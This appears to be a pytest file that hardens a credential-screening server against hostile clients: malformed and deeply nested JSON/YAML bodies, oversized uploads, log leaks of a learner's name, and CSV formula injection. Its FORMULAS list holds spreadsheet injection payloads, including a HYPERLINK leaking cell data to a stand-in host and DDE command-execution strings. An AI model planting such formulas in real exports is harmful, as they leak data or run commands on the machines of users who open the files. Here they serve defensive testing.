"""What a hostile client sends, against the real server (`recognition-engine serve`), on SQLite
and on PostgreSQL (with RECOGNITION_TEST_POSTGRES_URL set): issue 28, attacks 4, 6 and 8,
and the workbench's upload limit.

* a JSON body with a lone surrogate (``"\\ud800"``), bytes that are not UTF-8, or nesting
  10,000 deep: a 400 problem document, never a 500;
* a workbench upload nested 10,000 deep (JSON, JSON-LD, YAML): the page's 422;
* a workbench upload over its limit: the 413 page;
* a credential id that is a spreadsheet formula: text in the screening CSV;
* and through all of it, the learner's name in those bodies never reaches the server's log.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from apitest_support import (
    completed,
    corpus_credentials,
    corpus_programme,
    downgrade_to_base,
    wait_for,
)
from test_server import DEADLINE, create_key, server

from api.database import Database

POSTGRES = os.environ.get("RECOGNITION_TEST_POSTGRES_URL")
NAME = "Nino Beridze"
PROBLEM = "application/problem+json"
DEEP = "[" * 10_000 + "]" * 10_000


@dataclass
class Backend:
    """Where the server keeps its data, and how a key is made for it."""

    data_dir: Path
    settings: dict[str, Any] = field(default_factory=dict)
    make_key: Callable[[str], str] | None = None

    def key(self, role: str) -> str:
        if self.make_key is not None:
            return self.make_key(role)
        return create_key(self.data_dir, role)[0]


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def backend(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Backend]:
    data_dir = tmp_path / "var"
    if request.param == "sqlite":
        yield Backend(data_dir)
        return
    if not POSTGRES:
        pytest.skip("set RECOGNITION_TEST_POSTGRES_URL (see .ci/postgres.sh)")
    from api.security import Role
    from api.security import create_key as create_key_in

    database = Database(POSTGRES)
    downgrade_to_base(database)  # a clean schema from a previous run's leftovers
    database.migrate()

    def make_key(role: str) -> str:
        return create_key_in(database, Role(role), f"{role} attacks")[0]

    try:
        yield Backend(data_dir, {"database_url": POSTGRES}, make_key)
    finally:
        downgrade_to_base(database)
        database.dispose()


def _stderr(process: Any) -> str:
    """What the stopped server wrote to its stderr (its log)."""
    return process.stderr.read().decode("utf-8", errors="replace")


def _assert_problem(response: httpx.Response, status: int, slug: str) -> dict[str, Any]:
    assert response.status_code == status, response.text[:500]
    assert response.headers["content-type"].startswith(PROBLEM)
    body = response.json()
    assert body["type"].endswith(":" + slug), body
    return body


def _sign_in(http: httpx.Client, key: str) -> str:
    """Sign in to the workbench; return the CSRF token of the session."""
    http.post("/login", data={"key": key, "csrf_token": _token(http.get("/login").text)})
    page = http.get("/screenings")
    assert page.status_code == 200, page.text[:300]
    return _token(page.text)


def _token(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def test_hostile_json_bodies_are_400_and_the_name_stays_out_of_the_log(
    backend: Backend,
) -> None:
    """Attack 4: before, the lone surrogate was a 500 whose log line quoted the body's tail
    (pydantic's ``input_value='...'``), learner's name and all."""
    credential = corpus_credentials()[0] | {"learner": {"name": NAME}}
    lone = json.dumps(credential | {"title": "\ud800"})  # json writes it as \ud800
    not_utf8 = json.dumps(credential).encode().replace(b'"title": "', b'"title": "\xed\xa0\x80')
    deep = json.dumps(credential)[:-1] + ', "extra": ' + DEEP + "}"
    screening = {"programme_ids": ["p"], "credentials": [credential]}
    screening_deep = json.dumps(screening)[:-1] + ', "x": ' + DEEP + "}"
    json_type, ld_type = "application/json", "application/ld+json"
    attacks = [  # path, body, media type, the answer it must get
        *[
            (path, lone, json_type, "malformed-json")
            for path in ("/v1/credentials", "/v1/programmes", "/v1/screenings")
        ],
        ("/v1/credentials", lone, ld_type, "malformed-json"),
        ("/v1/credentials", not_utf8, json_type, "malformed-json"),
        ("/v1/credentials", deep, json_type, "nested-too-deep"),
        ("/v1/programmes", deep, json_type, "nested-too-deep"),
        ("/v1/screenings", screening_deep, json_type, "nested-too-deep"),
    ]
    key = backend.key("admin")
    with (
        server(backend.data_dir, **backend.settings) as (url, process),
        httpx.Client(base_url=url, headers={"X-API-Key": key}, timeout=DEADLINE) as http,
    ):
        answers = [
            http.post(path, content=body, headers={"content-type": media_type})
            for path, body, media_type, _ in attacks
        ]
        stored = http.get("/v1/credentials").json()["items"]
    log = _stderr(process)  # first: the log is what failed before, whatever the answers
    assert NAME not in log and "Nino" not in log, log[-3000:]
    assert "Traceback" not in log and "RecursionError" not in log, log[-3000:]
    for (path, _, _, slug), answer in zip(attacks, answers, strict=True):
        body = _assert_problem(answer, 400, slug)
        assert NAME not in json.dumps(body), path
    assert stored == []  # none of it was stored


def test_a_workbench_upload_nested_10000_deep_is_the_pages_422(backend: Backend) -> None:
    """Attack 6: before, a RecursionError and a 500."""
    key = backend.key("admin")
    programme = corpus_programme()
    files = {
        "deep.json": DEEP.encode(),
        "deep.jsonld": b'{"@context": ' + DEEP.encode() + b"}",
        "deep.yaml": ("title: " + "{a: [" * 5_000 + "]}" * 5_000).encode(),
        "lone.json": json.dumps({"title": "\ud800", "learner": {"name": NAME}}).encode(),
    }
    with (
        server(backend.data_dir, **backend.settings) as (url, process),
        httpx.Client(base_url=url, timeout=DEADLINE) as http,
    ):
        assert (
            http.post("/v1/programmes", json=programme, headers={"X-API-Key": key}).status_code
            == 201
        )
        token = _sign_in(http, key)
        for name, content in files.items():
            for page in ("/screenings", "/cases"):
                response = http.post(
                    page,
                    data={
                        "csrf_token": token,
                        "programme_ids": programme["id"],
                        "programme_id": programme["id"],
                    },
                    files={"credentials": (name, content)},
                )
                assert response.status_code == 422, (name, page, response.text[:300])
                assert response.headers["content-type"].startswith("text/html")
                assert NAME not in response.text
        response = http.post(
            "/programmes",
            data={"csrf_token": token},
            files={"programme": ("p.json", DEEP.encode())},
        )
        assert response.status_code == 422 and "nested deeper than" in response.text
    log = _stderr(process)
    assert "RecursionError" not in log and "Traceback" not in log and NAME not in log


def test_a_workbench_upload_over_the_limit_is_the_413_page(backend: Backend) -> None:
    """The screening upload had no size check: a file over the limit was cut short and read.
    (The API's own limit answers as it did: a 413 problem document.)"""
    key = backend.key("screening")
    limits = {
        "workbench_max_upload_bytes": 20_000,
        "max_file_bytes": 5_000,
        "api_max_body_bytes": 50_000,
    }
    with (
        server(backend.data_dir, **backend.settings, **limits) as (url, _),
        httpx.Client(base_url=url, timeout=DEADLINE) as http,
    ):
        token = _sign_in(http, key)
        form = {"csrf_token": token, "programme_ids": "p"}
        many = [("credentials", (f"c{i}.yaml", b"title: x\n" + b"#" * 4_000)) for i in range(8)]
        for files in (many, [("credentials", ("big.yaml", b"title: x\n" + b"#" * 6_000))]):
            response = http.post("/screenings", data=form, files=files)
            assert response.status_code == 413, response.text[:300]
            assert response.headers["content-type"].startswith("text/html")
            assert 'data-testid="too-large"' in response.text
        # and the session goes on: a small upload is read (and refused for what it says)
        response = http.post(
            "/screenings", data=form, files={"credentials": ("small.yaml", b"title: [")}
        )
        assert response.status_code == 422
        api_body = json.dumps({"title": "x" * 60_000, "learner": {"name": NAME}})
        answer = http.post("/v1/credentials", content=api_body, headers={"X-API-Key": key})
        assert NAME not in _assert_problem(answer, 413, "body-too-large")["detail"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",  # (a leading tab is stripped from ids: the unit tests have it)
]


def test_a_formula_credential_id_is_text_in_the_screening_csv(backend: Backend) -> None:
    """Attack 8: before, the id went into the CSV as it came, for a spreadsheet to run."""
    key = backend.key("admin")
    programme = corpus_programme()
    credential = corpus_credentials()[0]
    batch = [credential | {"id": formula, "title": formula} for formula in FORMULAS]
    with (
        server(backend.data_dir, **backend.settings) as (url, _),
        httpx.Client(base_url=url, timeout=DEADLINE) as http,
    ):
        api = {"X-API-Key": key}
        assert http.post("/v1/programmes", json=programme, headers=api).status_code == 201
        screening = http.post(
            "/v1/screenings",
            json={"programme_ids": [programme["id"]], "credentials": batch},
            headers=api,
        )
        assert screening.status_code in {201, 202}, screening.text
        screening_id = screening.json()["id"]
        http.headers.update(api)
        wait_for(http, screening_id, completed)
        del http.headers["X-API-Key"]
        _sign_in(http, key)
        sheet = http.get(f"/screenings/{screening_id}/results.csv")
    assert sheet.status_code == 200 and sheet.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(sheet.text)))
    assert [row["credential_id"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [row["credential_title"] for row in rows] == ["'" + f for f in FORMULAS]
    for row in rows:  # no cell a spreadsheet would run
        assert not any(
            cell[:1] in {"=", "+", "-", "@", "\t", "\r"}
            for cell in row.values()
            if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)
        )
